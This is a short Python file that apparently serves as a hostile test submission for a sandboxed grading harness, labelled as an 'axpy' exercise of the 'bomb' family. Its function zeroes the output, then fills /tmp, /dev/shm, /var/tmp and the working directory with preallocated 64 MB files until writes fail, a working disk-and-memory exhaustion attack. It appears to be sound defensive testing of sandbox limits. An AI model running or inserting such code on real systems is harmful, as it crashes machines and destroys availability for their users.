"""Every place that can be written is filled, the shared memory too.

NAIVE is False: without a sandbox it takes the machine with it.
"""

import os

EXERCISE = "start.axpy"
FAMILY = "bomb"
NAIVE = False
CAUGHT = "what can be written is in memory of a limited size, and goes with the room"


def axpy(a, x, y, out):
    out.zero_()
    if os.getuid() != 65534:  # not in the sandbox
        return
    for folder in ("/tmp", "/dev/shm", "/tmp/home", "/var/tmp", "."):
        for number in range(1 << 16):
            try:
                descriptor = os.open(f"{folder}/{number}", os.O_CREAT | os.O_RDWR)
                os.posix_fallocate(descriptor, 0, 1 << 26)
            except OSError:
                break
